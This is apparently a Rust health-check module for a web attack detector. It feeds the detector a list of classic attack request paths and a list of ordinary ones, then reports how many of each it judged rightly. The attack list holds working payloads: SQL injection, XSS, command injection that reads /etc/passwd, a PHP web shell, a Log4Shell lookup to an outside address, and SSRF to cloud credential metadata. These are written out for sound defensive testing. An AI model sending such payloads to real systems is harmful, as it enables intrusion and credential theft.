//! Whether the detector sees attacks and lets ordinary requests pass.

use bartizan_detect::{Detector, Policy};
use bartizan_model::{Action, HttpRequest, Timestamp, Via};

use super::{Outcome, Probe};

pub(super) const PROBE: Probe = Probe {
    id: 1,
    key: "detector",
    name: "Detector answers known requests",
    why: "A detector that misses textbook attacks misses real ones, and one that blocks ordinary requests gets switched off.",
    weight: 3,
    measure: |shared| {
        Box::pin(async move {
            let model = shared.judge.in_force();
            let judged = tokio::task::spawn_blocking(move || judge(&model.detector, &model.policy)).await;
            judged.unwrap_or_else(|_| {
                Outcome::fail(
                    "no answer",
                    "the detector ended by a defect",
                    "report this with the server's log",
                )
            })
        })
    },
};

/// One request per class of attack that a request alone shows.
const ATTACKS: &[&str] = &[
    "/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/login?user=admin%27%20or%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/view?name=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/download?file=../../../../../../etc/passwd",
    "/page?template=php://filter/convert.base64-encode/resource=index.php",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/run?code=%3C?php%20system($_GET[%27c%27]);?%3E",
    "/hello?name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
    "/api?x=$%7Bjndi:ldap://198.51.100.7/a%7D",
    "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "/redirect?to=%0d%0aSet-Cookie:%20session=1",
];

/// What sites are asked every day.
const ORDINARY: &[&str] = &[
    "/",
    "/products?page=2&sort=price",
    "/search?q=O%27Brien%20%26%20Sons",
    "/search?q=select%20a%20gift%20from%20the%20shop",
    "/articles/2026/03/how-to-drop-a-table-of-contents",
    "/static/app.9f8e7d6c.js",
    "/api/v1/orders/4711",
    "/profile?next=%2Faccount%2Fsettings",
    "/cart?item=42&quantity=3",
    "/images/logo.png?v=3",
    "/blog?tag=c%2B%2B",
    "/calendar?from=2026-03-01&to=2026-03-31",
];

fn judge(detector: &Detector, policy: &Policy) -> Outcome {
    let action = |target: &&str| {
        let mut request = HttpRequest::new(Timestamp::from_secs(0), "GET", target.as_bytes(), Via::Check);
        request.headers =
            vec![("user-agent".to_owned(), b"Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0".to_vec())];
        policy.decide(&detector.assess(&request)).action
    };
    let missed: Vec<&str> =
        ATTACKS.iter().filter(|target| action(target) == Action::Allow).copied().collect();
    let accused: Vec<&str> =
        ORDINARY.iter().filter(|target| action(target) != Action::Allow).copied().collect();
    verdict(&missed, &accused)
}

fn verdict(missed: &[&str], accused: &[&str]) -> Outcome {
    let seen = ATTACKS.len() - missed.len();
    let passed = ORDINARY.len() - accused.len();
    let value = format!(
        "{seen} of {} attacks seen, {passed} of {} ordinary requests passed",
        ATTACKS.len(),
        ORDINARY.len()
    );
    let remedy =
        "set the thresholds back to the model's own, or load a model that was trained with more data";
    let example = missed.first().or(accused.first()).copied().unwrap_or_default();
    match missed.len() + accused.len() {
        0 => Outcome::pass(value, "every known attack was seen and every ordinary request passed"),
        1 => Outcome::warning(value, format!("one request was judged wrongly: {example}"), remedy),
        wrong => {
            Outcome::fail(value, format!("{wrong} requests were judged wrongly, such as {example}"), remedy)
        }
    }
}

#[cfg(test)]
mod tests {
    use bartizan_detect::Thresholds;
    use bartizan_model::{CheckStatus, Mode};

    use super::*;

    fn with(thresholds: Thresholds) -> Outcome {
        let detector = Detector::embedded().expect("the model in the binary is sound");
        judge(&detector, &Policy { thresholds, mode: Mode::Monitor })
    }

    #[test]
    fn the_shipped_model_passes_and_one_with_senseless_thresholds_does_not() {
        let detector = Detector::embedded().expect("the model in the binary is sound");
        let own = detector.manifest().thresholds;
        let sound = with(Thresholds { flag: own.flag, block: own.block });
        assert_eq!(sound.status, CheckStatus::Pass, "{sound:?}");
        assert_eq!(with(Thresholds { flag: 1.0, block: 1.0 }).status, CheckStatus::Fail, "it sees nothing");
        assert_eq!(
            with(Thresholds { flag: 0.0, block: 0.0 }).status,
            CheckStatus::Fail,
            "it accuses everyone"
        );
    }

    #[test]
    fn one_wrong_answer_is_a_warning() {
        assert_eq!(verdict(&["/x"], &[]).status, CheckStatus::Warning);
        assert!(verdict(&["/x"], &[]).message.contains("/x"));
        assert_eq!(verdict(&[], &["/y", "/z"]).status, CheckStatus::Fail);
    }
}
